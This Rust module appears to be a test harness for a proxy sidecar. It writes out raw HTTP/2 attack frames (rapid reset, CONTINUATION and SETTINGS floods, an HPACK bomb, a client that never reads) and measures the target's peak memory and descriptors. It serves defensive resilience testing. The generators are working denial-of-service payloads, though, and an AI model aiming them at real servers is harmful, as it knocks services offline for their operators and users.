//! Connection-level attacks, written as raw bytes because no well-behaved client library
//! will send them: HTTP/2 rapid reset, CONTINUATION and SETTINGS floods, HPACK bombs, and
//! clients that never read. And the measuring that goes with them: the sidecar's resident
//! memory sampled while an attack runs, beside a legitimate client that must keep being
//! served.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// The HTTP/2 client preface.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// One frame: 3-byte length, type, flags, stream id, payload.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// HPACK for `GET http://{authority}{path}`: static-table method and scheme, the path and
/// authority as literals without indexing (RFC 7541 §6.2.2).
pub fn request_block(authority: &str, path: &str) -> Vec<u8> {
    let mut b = vec![0x82, 0x86];
    for (index, value) in [(0x04u8, path), (0x01, authority)] {
        b.push(index);
        b.push(value.len() as u8);
        b.extend_from_slice(value.as_bytes());
    }
    b
}

/// The preface and an empty SETTINGS frame: a connection that may open streams.
pub fn opening() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

/// Rapid reset (CVE-2023-44487): `streams` requests, each cancelled as soon as it is sent.
pub fn rapid_reset(streams: u32) -> Vec<u8> {
    let mut out = opening();
    let block = request_block("x", "/orders/reset");
    for i in 0..streams {
        let id = 2 * i + 1;
        out.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, &block));
        out.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
    }
    out
}

/// Fan-out: `streams` concurrent requests for `path` on one connection (HTTP/2 lets a
/// client open many at once; each could cost the proxy an upstream connection).
pub fn fan_out(streams: u32, path: &str) -> Vec<u8> {
    let mut out = opening();
    let block = request_block("x", path);
    for i in 0..streams {
        out.extend(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, &block));
    }
    out
}

/// CONTINUATION flood (CVE-2024-27316 and kin): one header block that never ends, its
/// frames full of new header fields.
pub fn continuation_flood(frames: usize) -> Vec<u8> {
    let mut out = opening();
    out.extend(frame(HEADERS, END_STREAM, 1, &request_block("x", "/orders/flood")));
    // A literal header without indexing, new name: 0x00, name, value (7-bit lengths).
    let mut field = vec![0x00, 6];
    field.extend_from_slice(b"x-junk");
    field.push(120);
    field.extend_from_slice(&[b'j'; 120]);
    let payload: Vec<u8> = field.iter().copied().cycle().take(field.len() * 100).collect();
    for _ in 0..frames {
        out.extend(frame(CONTINUATION, 0, 1, &payload));
    }
    out
}

/// SETTINGS flood (CVE-2019-9515): settings frames, each owed an ACK the client never reads.
pub fn settings_flood(frames: usize) -> Vec<u8> {
    let mut out = opening();
    // SETTINGS_HEADER_TABLE_SIZE = 4096, again and again.
    let setting = [0x00, 0x01, 0x00, 0x00, 0x10, 0x00];
    for _ in 0..frames {
        out.extend(frame(SETTINGS, 0, 0, &setting));
    }
    out
}

/// HPACK bomb: a 4 KiB header put in the dynamic table once, then named by a one-byte
/// index thousands of times: a few KiB on the wire, `refs` × 4 KiB once decoded.
pub fn hpack_bomb(streams: u32, refs: usize) -> Vec<u8> {
    let mut out = opening();
    for i in 0..streams {
        let mut block = request_block("x", "/orders/bomb");
        if i == 0 {
            // Literal with incremental indexing, new name (RFC 7541 §6.2.1): `x-b: bbbb…`.
            block.extend_from_slice(&[0x40, 3]);
            block.extend_from_slice(b"x-b");
            // A 4,000-byte value: 7-bit prefix 127, then 3873 as a varint.
            let mut rest = 4000 - 127;
            block.push(0x7f);
            while rest >= 128 {
                block.push((rest % 128) as u8 | 0x80);
                rest /= 128;
            }
            block.push(rest as u8);
            block.extend(std::iter::repeat_n(b'b', 4000));
        }
        // Index 62: the newest dynamic-table entry.
        block.extend(std::iter::repeat_n(0xbe, refs));
        out.extend(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, &block));
    }
    out
}

/// Sends `bytes` on a new connection to `addr`, reading (and dropping) whatever comes
/// back, until the server closes the connection or `within` passes. True when the server
/// closed it.
pub async fn send_raw<B>(addr: std::net::SocketAddr, bytes: B, within: Duration) -> bool
where
    B: AsRef<[u8]> + Send + 'static,
{
    send_raw_timed(addr, bytes, within).await.is_some()
}

/// `send_raw`, saying how long the server took to close the connection (None: it had not
/// within `within`). A connection that cannot be opened counts as closed at once.
pub async fn send_raw_timed<B>(addr: std::net::SocketAddr, bytes: B, within: Duration) -> Option<Duration>
where
    B: AsRef<[u8]> + Send + 'static,
{
    let started = std::time::Instant::now();
    let Ok(tcp) = TcpStream::connect(addr).await else { return Some(Duration::ZERO) };
    let (mut rd, mut wr) = tcp.into_split();
    let writer = tokio::spawn(async move {
        let _ = wr.write_all(bytes.as_ref()).await;
        wr
    });
    let mut sink = vec![0u8; 64 << 10];
    let closed = tokio::time::timeout(within, async {
        loop {
            match rd.read(&mut sink).await {
                Ok(0) | Err(_) => return,
                Ok(_) => {}
            }
        }
    })
    .await
    .is_ok();
    writer.abort();
    closed.then(|| started.elapsed())
}

/// Opens a connection, sends `bytes`, and never reads: a client that stops reading.
pub async fn send_and_never_read(addr: std::net::SocketAddr, bytes: &[u8]) -> Option<TcpStream> {
    let mut tcp = TcpStream::connect(addr).await.ok()?;
    tcp.write_all(bytes).await.ok()?;
    Some(tcp)
}

/// Resident memory of a process, in KiB (`VmRSS` in /proc; 0 once it is gone).
pub fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .unwrap_or(0)
}

/// Open file descriptors of a process (0 once it is gone).
pub fn fds(pid: u32) -> u64 {
    std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, |d| d.count() as u64)
}

/// Samples a process's resident memory and descriptors every 20 ms until stopped; keeps
/// the peaks.
pub struct PeakRss {
    peak: Arc<AtomicU64>,
    peak_fds: Arc<AtomicU64>,
    stop: Arc<AtomicBool>,
}

impl PeakRss {
    pub fn start(pid: u32) -> PeakRss {
        let peak = Arc::new(AtomicU64::new(rss_kib(pid)));
        let peak_fds = Arc::new(AtomicU64::new(fds(pid)));
        let stop = Arc::new(AtomicBool::new(false));
        let (p, f, s) = (peak.clone(), peak_fds.clone(), stop.clone());
        tokio::spawn(async move {
            while !s.load(Ordering::Relaxed) {
                p.fetch_max(rss_kib(pid), Ordering::Relaxed);
                f.fetch_max(fds(pid), Ordering::Relaxed);
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        });
        PeakRss { peak, peak_fds, stop }
    }

    /// The peak resident memory so far, in KiB.
    pub fn peak(&self) -> u64 {
        self.peak.load(Ordering::Relaxed)
    }

    /// The most descriptors open at once so far.
    pub fn peak_fds(&self) -> u64 {
        self.peak_fds.load(Ordering::Relaxed)
    }
}

impl Drop for PeakRss {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_laid_out_as_rfc_9113_says() {
        let f = frame(RST_STREAM, 0, 3, &8u32.to_be_bytes());
        assert_eq!(f, [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
        let block = request_block("x", "/a");
        assert_eq!(block, [0x82, 0x86, 0x04, 2, b'/', b'a', 0x01, 1, b'x']);
    }
}
